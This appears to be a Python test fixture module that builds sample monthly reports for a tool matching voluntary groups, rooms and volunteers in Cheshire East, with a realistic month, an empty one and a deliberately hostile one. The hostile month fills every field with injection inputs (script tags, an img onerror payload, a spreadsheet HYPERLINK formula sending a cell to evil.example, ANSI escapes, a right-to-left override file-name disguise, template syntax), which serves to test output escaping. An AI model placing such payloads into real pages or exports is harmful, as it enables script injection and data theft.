"""Months to draw: one as a place could have it, one full of malice, one empty."""

# ruff: noqa: E501 - a record reads best on one line

from dataclasses import replace
from datetime import date

from sap_match.model import Problem, SourceInfo
from sap_match.monthly.contents import (
    AreaLine,
    Card,
    Closing,
    Correction,
    Month,
    NetworkPicture,
    NotSuggested,
    Waiting,
)
from sap_match.results import Part, Suggestion

AREAS = (
    ("a-knutsford", "Knutsford"),
    ("a-chaw", "CHAW (Chelford, Handforth, Alderley Edge, Wilmslow)"),
    ("a-bdp", "BDP (Bollington, Disley, Poynton)"),
    ("a-macclesfield", "Macclesfield"),
    ("a-congleton", "Congleton & Holmes Chapel"),
    ("a-crewe", "Crewe"),
    ("a-nantwich", "Nantwich & Rural"),
    ("a-smash", "SMASH (Sandbach, Middlewich, Alsager, Scholar Green, Haslington)"),
)


def suggestion(kind, left, right, *, score=1.25, asked=None):
    return Suggestion(
        kind=kind,
        subject_id=left,
        other_id=right,
        asked=asked or (left, right),
        rank=1,
        parts=(Part("text", score, 1.0, "a fact"),),
        reason="",
        strength=0.8,
    )


def card(kind, left, right, names, **words):
    asked = words.pop("asked", None)
    return Card(
        suggestion=suggestion(kind, left, right, asked=asked),
        title=words.pop("title", " and ".join(names)),
        names=tuple(names),
        **words,
    )


CARDS = (
    card(
        "partner",
        "o1",
        "o2",
        ["Wilmslow Lunch Club", "Handforth Community Transport"],
        action="Introduce them, so that the lunch club's twelve waiting members can be fetched",
        why_now="the lunch club's need for drivers closes on Fri 20 Nov 2026",
        reason="the club lists twelve people waiting for a lift; the minibus stands idle on Thursdays from 9.30 am to 1 pm",
        counter_reason="the minibus has one relief driver, who was off in October",
        first_step="“Could your Thursday minibus make two runs before noon, and what would you need to be paid for fuel?”",
        place="Wilmslow",
        day="Thursdays 10 am to noon",
        themes=("older people", "transport"),
        area_id="a-chaw",
    ),
    card(
        "facility",
        "r1",
        "f1",
        ["Crewe East Timorese Association", "Methodist Schoolroom, West Crewe"],
        title="Crewe East Timorese Association and the Methodist Schoolroom",
        action="Book the schoolroom for the Saturday language class, 24 people, from 16 January",
        why_now="the class loses its present room at Christmas",
        reason="the room is step-free, holds 40 and is free on Saturdays 10 am to 1 pm; it is under 500 m from where the class meets now",
        counter_reason="there is no kitchen, and the class shares food at its end",
        first_step="“Is the schoolroom still free on Saturday mornings, and is £8 an hour your charity rate?”",
        place="West Crewe",
        day="Saturdays 10 am to 1 pm",
        themes=("refugees", "learning"),
        to_confirm=("whether the heating runs on Saturdays",),
        asked=("o3", "o4"),
        area_id="a-crewe",
    ),
    card(
        "pairing",
        "of1",
        "n1",
        ["Weaver Valley Pharmaceuticals", "Friends of Queen's Park"],
        title="Weaver Valley Pharmaceuticals and the Friends of Queen’s Park",
        action="Match twelve volunteers for two days in November with the pond clearance",
        why_now="the offer runs out on Mon 30 Nov 2026",
        reason="the team asked for work outdoors; the pond needs ten to fourteen people for two weekdays",
        counter_reason="the pond is unsafe after heavy rain, so a second date is needed",
        first_step="“Which two weekdays before the end of November could your twelve people come?”",
        place="Crewe",
        day="weekdays 9.30 am to 3 pm",
        themes=("environment",),
        changed="carried over",
        asked=("o5", "o6"),
        area_id="a-crewe",
    ),
    card(
        "partner",
        "o7",
        "o8",
        ["Congleton Men’s Shed", "Bromley Farm Community Shop"],
        action="Introduce them, so that the shop's broken shelving and bikes come to the shed",
        why_now="both opened a second day this autumn",
        reason="the shop gives away bicycles that it cannot mend; the shed mends them on Tuesdays and lacks stock",
        first_step="“Would you take six bicycles this month if somebody drove them over?”",
        place="Congleton",
        day="Tuesdays 1 to 4 pm",
        themes=("repair", "isolation"),
        area_id="a-congleton",
    ),
    card(
        "consortium",
        "b1",
        "o9+o10+o11",
        ["Warm Homes brief", "South Cheshire Advice", "Rural Fuel Fund", "Nantwich Food Bank"],
        title="Warm homes in Nantwich & Rural: South Cheshire Advice, Rural Fuel Fund and Nantwich Food Bank",
        action="Ask the three to write the warm-homes bid together, South Cheshire Advice leading",
        why_now="the fund closes on Fri 27 Nov 2026",
        reason="between them they cover debt advice, fuel vouchers and home visits in all four rural wards; no other three do",
        counter_reason="two of them answered the same fund apart last year",
        first_step="“Would you lead if the food bank brought the home visits?”",
        place="Nantwich & Rural",
        themes=("fuel poverty", "debt"),
        asked=("o9", "o10", "o11"),
        area_id="a-nantwich",
        changed="changed",
    ),
    card(
        "partner",
        "o12",
        "o13",
        ["Polska Szkoła Sobotnia w Crewe", "Clwb Cymraeg Sir Gaer"],
        action="Introduce the two Saturday language schools to each other",
        reason="both teach children under eleven and both seek a teacher's cover for January",
        first_step="“Would you share a supply list?”",
        place="Crewe",
        day="Saturdays",
        area_id="a-crewe",
    ),
    card(
        "pairing",
        "of2",
        "n2",
        ["Holbrook & Lee Solicitors", "Audlem Village Hall Trust"],
        action="Match four hours of lease advice with the hall's renewal",
        why_now="the lease ends on Thu 31 Dec 2026",
        reason="the hall's landlord is the parish; the firm acts for no parish",
        first_step="“Could you read a nine-page lease before 4 December?”",
        place="Audlem",
        asked=("o14", "o15"),
        area_id="a-nantwich",
    ),
    card(
        "partner",
        "o16",
        "o17",
        ["St Mary’s Bereavement Café", "East Cheshire Carers"],
        action="Introduce them, so that carers hear of the café when caring ends",
        reason="the carers’ group closes a file with no onward step; the café has six free seats",
        counter_reason="the café meets at the carers’ own busiest hour",
        first_step="“Could the carers’ newsletter carry the café’s dates?”",
        place="Macclesfield",
        day="first Wednesday of the month, 2 to 4 pm",
        area_id="a-macclesfield",
    ),
    card(
        "facility",
        "r2",
        "f2",
        ["Goostrey Stroke Group", "Goostrey Fire Station community room"],
        action="Ask whether the fire station's room is free; its hours are not known",
        reason="it is step-free and has a disabled person's toilet; the group's present hall has steps",
        first_step="“When is the community room not in use?”",
        place="Goostrey",
        to_confirm=("hours", "price"),
        asked=("o18", "o19"),
        area_id="a-congleton",
    ),
)

SERVICE_NAMES = {
    "s1": "Congleton Thursday Lunch Club", "s2": "Thursday Lunch at the Wesley Centre",
    "s3": "St. Peter's Food Pantry", "s4": "Saint Peters Food Pantry", "s5": "Warm Space, Crewe Library",
    "s6": "WARM SPACE CREWE LIBRARY", "o1": "Wilmslow Lunch Club", "o2": "Handforth Community Transport",
}  # fmt: skip


def realistic():
    """A month as Cheshire East could have it."""
    return Month(
        place_id="cheshire-east",
        place="Cheshire East",
        month="2026-11",
        as_of=date(2026, 11, 1),
        warnings=("The library leaflets were last updated on Sat 4 Apr 2026; seven months old",),
        cards=CARDS,
        more=CARDS[:2],
        dropped=tuple((f"Pairing {n}", "asked twice already this month") for n in range(11))
        + (("Knutsford Pantry and the Hub", "you said never on Tue 6 Oct 2026"),) * 3,
        carried_over=2,
        closing=(
            Closing("Volunteer drivers for Thursdays", "Wilmslow Lunch Club", date(2026, 11, 20), "need", "n7"),
            Closing("Warm Homes Fund, up to £5,000", "Rural Fuel Fund", date(2026, 11, 27), "fund", "b1", "two groups are suggested for it"),
            Closing("A room for 24 on Saturdays", "Crewe East Timorese Association", date(2026, 11, 30), "room request", "r1"),
        ),
        waiting=(
            Waiting("a1b2c3d4e5f60718", "Sandbach Repair Café and the Scout hut", "2026-08", "yes", "introduced on Mon 10 Aug; no date agreed"),
            Waiting("b1b2c3d4e5f60718", "Knutsford Dementia Café and the Leisure Trust", "2026-10"),
            Waiting("c1b2c3d4e5f60718", "Alsager Digital Help and Bank IT Campus", "2026-10", "not_now", "ask again in January"),
        ),
        areas=tuple(
            AreaLine(area_id, name, "care_community", n, n == 0, 20 + n * 3, never)
            for (area_id, name), n, never in zip(
                AREAS, (0, 1, 0, 1, 2, 3, 2, 0), (4, 2, 7, 3, 0, 9, 5, 6), strict=True
            )
        ),
        corrections=(
            Correction("Give the hours of the Fire Station community room", "f2", "Goostrey Fire Station community room", "Cheshire Fire, community desk", 6, "its hours are empty, so it can only be enquired about"),
            Correction("Say what the group does", "o77", "Friends of Tegg's Nose", "the group's secretary", 3, "its text is its name alone"),
            Correction("Merge two entries", "s4", "Saint Peters Food Pantry", "the directory editor", 2, "one entry has the old telephone number"),
            Correction("Say where it works", "o80", "Cheshire Young Carers Network", "", 2, "only a registered address is known"),
            Correction("Close the entry", "s9", "Haslington Over-60s", "Haslington Parish Council", 1, "closed in 2020 and still listed"),
        ),
        not_suggested=tuple(
            NotSuggested(
                f"q{n}", f"Group number {n}", "its description is its name", ("thin text", "no place", "at the month's cap")[n % 3],
                "write two sentences about what it does", (AREAS[n % 8][0],) if n % 5 else (),
            )
            for n in range(60)
        ),
        duplicates=(
            {"left_id": "s3", "right_id": "s4", "probability": 0.991, "relation": "same_record", "decision": "duplicate", "name": 5.2},
            {"left_id": "s5", "right_id": "s6", "probability": 0.71, "relation": "same_record", "decision": "review", "name": 3.1},
            {"left_id": "s1", "right_id": "s2", "probability": 0.02, "relation": "different", "decision": "distinct", "name": -3.1},
        ),
        overlaps=(
            {"left_id": "s1", "right_id": "s2", "score": 0.8123, "reason": "both serve lunch to older people in Congleton on Thursdays at noon; nobody does on Mondays", "text": 0.4},
        ),
        gaps=(
            {"area_id": "a-crewe", "area": "Crewe", "theme": "bereavement", "status": "none recorded", "reason": "Crewe says it needs: “someone to talk to”. Nothing is listed here", "whom_to_ask": "Crewe Town Council", "confidence": "good: 41 listings by 20 organisations"},
            {"area_id": "a-knutsford", "area": "Knutsford", "theme": "youth mental health", "status": "thin", "reason": "one listing, in term time", "whom_to_ask": "", "confidence": "poor: 3 listings"},
        ),
        density=(
            {"measure": "Density", "group": "whole network", "value": 0.0156, "low": 0.0141, "high": 0.4, "numerator": 310, "denominator": 19900, "definition": "partners / possible pairs of organisations", "note": "61 organisations are in no recorded collaboration"},
            {"measure": "Largest connected part", "group": "whole network", "value": 0.61, "low": None, "high": None, "numerator": 122, "denominator": 200, "definition": "organisations that ties join in one part / all", "note": None},
            {"measure": "Density within, by kind", "group": "voluntary", "value": 0.0312, "numerator": 402, "denominator": 12880, "definition": "partners inside the group / possible pairs inside it", "note": ""},
            {"measure": "Density within, by kind", "group": "public", "value": 0.1421, "numerator": 27, "denominator": 190, "definition": "partners inside the group / possible pairs inside it", "note": ""},
            {"measure": "Trust reported, by kind", "group": "public", "value": None, "definition": "mean of the reports", "note": "fewer than 5 reports"},
        ),
        problems=tuple(
            Problem("needs.csv", "needs", n, "starts_on", "soon", "bad" if n % 7 == 0 else "note", "is no date", "write YYYY-MM-DD")
            for n in range(2, 75)
        ),
        sources=(
            SourceInfo("organisations.csv", "canonical", 204, 200, 4, "ab" * 32, date(2026, 10, 30)),
            SourceInfo("library_leaflets.csv", "canonical", 41, 41, 0, "cd" * 32, None),
        ),
        method=(
            "Organisations were compared by what they do, where they work and whom they already work with",
            "No organisation is asked more than twice a month",
            "The list is capped at 12 and holds only what passed the floor of quality",
        ),
        names=SERVICE_NAMES,
        network=NetworkPicture(
            {"voluntary": 142, "business": 25, "public": 33},
            (("voluntary", "voluntary", 210), ("public", "voluntary", 96), ("business", "voluntary", 18), ("business", "public", 7)),
            alone=61,
        ),
    )  # fmt: skip


SCRIPT = "<script>window.owned=1</script>"
IMAGE = '"><img src=x onerror="window.owned=2">'
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
ANSI = "\x1b[2J\x1b[31mred\x1b[0m\x07\x1b]0;title\x07"
OVERRIDE = "user\u202egnp.exe\u2066 hidden\u2069"
LONG = "Ffederasiwn Cymdeithasau Gwirfoddol " * 9
UNBROKEN = "Llanfair" * 38
TEMPLATE = "{{ 7 * 7 }} {% raw %}"
NASTY = (
    SCRIPT,
    IMAGE,
    FORMULA,
    ANSI,
    OVERRIDE,
    LONG,
    UNBROKEN,
    TEMPLATE,
    "</style></script><!--",
    "",
)


def nasty():
    """A month in which every text is hostile, foreign or endless."""
    words = [f"{text} {n}" for n, text in enumerate(NASTY)]
    cards = tuple(
        card(
            "partner", f"x{n}{SCRIPT}", f"y{n}\x00", [text, "Żółć i Gęś"],
            title=text or "?", action=text, why_now=text, reason=text, counter_reason=text,
            first_step=text, place=text, day=text, themes=(text,), area_id=SCRIPT,
            to_confirm=(text, FORMULA),
        )
        for n, text in enumerate(words)
    )  # fmt: skip
    everything = " ".join(words)
    return replace(
        realistic(),
        place=everything,
        warnings=tuple(words),
        cards=cards,
        more=cards,
        dropped=tuple((text, text) for text in words),
        closing=tuple(Closing(t, t, date(2026, 11, 2), t, t, t) for t in words),
        waiting=tuple(Waiting(t, t, t, t, t) for t in words),
        areas=tuple(AreaLine(t, t, "other", 1, nothing_yet=False, organisations=1, never_suggested=1) for t in words),
        corrections=tuple(Correction(t, t, t, t, 1, t) for t in words),
        not_suggested=tuple(NotSuggested(t, t, t, t, t, (t,)) for t in words),
        duplicates=tuple(
            {"left_id": t, "right_id": t, "probability": 0.9, "relation": t, "decision": t, t: t} for t in words
        ),
        overlaps=tuple({"left_id": t, "right_id": t, "score": 0.9, "reason": t, t: t} for t in words),
        gaps=tuple({t: t, "n": n} for n, t in enumerate(words)),
        density=tuple({"measure": t, t: t, "definition": t, "value": 0.1} for t in words),
        problems=tuple(Problem(t, t, 1, t, t, "bad", t, t) for t in words),
        sources=tuple(SourceInfo(t, t, 1, 1, 0, t) for t in words),
        method=tuple(words),
        names={t: t for t in words},
        network=NetworkPicture({"voluntary": 3, SCRIPT: 4}, ((SCRIPT, SCRIPT, 3),)),
    )  # fmt: skip


def empty():
    """A month of a place about which nothing is known."""
    return Month(place_id="nowhere", place="Nowhere", month="2026-11", as_of=date(2026, 11, 1))
